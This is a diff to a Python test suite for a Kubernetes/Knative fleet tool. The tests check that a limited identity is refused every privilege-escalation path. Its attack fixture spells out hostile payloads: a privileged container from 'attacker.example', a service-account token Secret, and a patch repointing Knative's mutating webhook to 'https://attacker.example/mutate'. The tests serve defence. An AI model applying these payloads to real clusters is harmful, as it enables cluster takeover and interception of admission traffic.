@@ -339,7 +339,8 @@ def test_without_one_right_that_spoke_alone_is_refused_and_left_untouched(
         assert "spoke 'spoke-1': SpokeAccessDenied: its identity may not " \
                f"{verb} {resource}.{group}" in res.out, res.out
         assert f"Add to its ClusterRole: apiGroups: ['{group}'], resources: [{resource}], " \
-               f"verbs: [{verb}]" in res.out, res.out
+               "resourceNames: [" in res.out, res.out
+        assert f"], verbs: [{verb}]" in res.out, res.out
         assert "python -m operations rights --stack <stack>" in res.out
         available = deployments_available(world["s2"].api(), "knative-serving")
         assert available and all(available.values()), available
@@ -430,7 +431,7 @@ def attacks(world: dict) -> dict[str, tuple[str, str, dict | None, str, dict]]:
     core_role = live(admin, f"/apis/{RBAC}/v1/clusterroles/{KNATIVE_ROLE}")
     privileged = {"serviceAccountName": "controller", "containers": [{
         "name": "controller", "image": "attacker.example/root:1",
-        "securityContext": {"privileged": True}}]}
+        "securityContext": {"privileged": True, "allowPrivilegeEscalation": True}}]}
     token_secret = {"apiVersion": "v1", "kind": "Secret", "type":
                     "kubernetes.io/service-account-token",
                     "metadata": {"name": "controller-token", "namespace": KS,
@@ -507,7 +508,8 @@ def attacks(world: dict) -> dict[str, tuple[str, str, dict | None, str, dict]]:
              "metadata": {"name": "fleet-mutates-everything"}}, "", {}),
         "Knative's mutating webhook pointed at a URL": (
             "PATCH", f"{ADMISSION}/mutatingwebhookconfigurations/webhook.serving.knative.dev",
-            webhook_to(url="https://attacker.example/mutate"), "apply", {}),
+            {"webhooks": webhook_to(url="https://attacker.example/mutate")["webhooks"]},
+            "merge", {}),
         "Knative's mutating webhook pointed at another Service": (
             "PATCH", f"{ADMISSION}/mutatingwebhookconfigurations/webhook.serving.knative.dev",
             webhook_to({"name": "activator-service", "namespace": KS}), "apply", {}),
@@ -602,7 +604,8 @@ def test_every_path_to_more_rights_is_refused_and_nothing_is_stored(world: dict)
     after."""
     stack: FleetStack = world["stack"]
     stack.configure(limited_fleet())
-    assert stack.up().ok
+    res = stack.up()
+    assert res.ok, res.out
     me, admin = limited_api(world), world["s1"].api()
     groups = {"validatingadmissionpolicybindings": "admissionregistration.k8s.io",
               "clusterroles": RBAC}
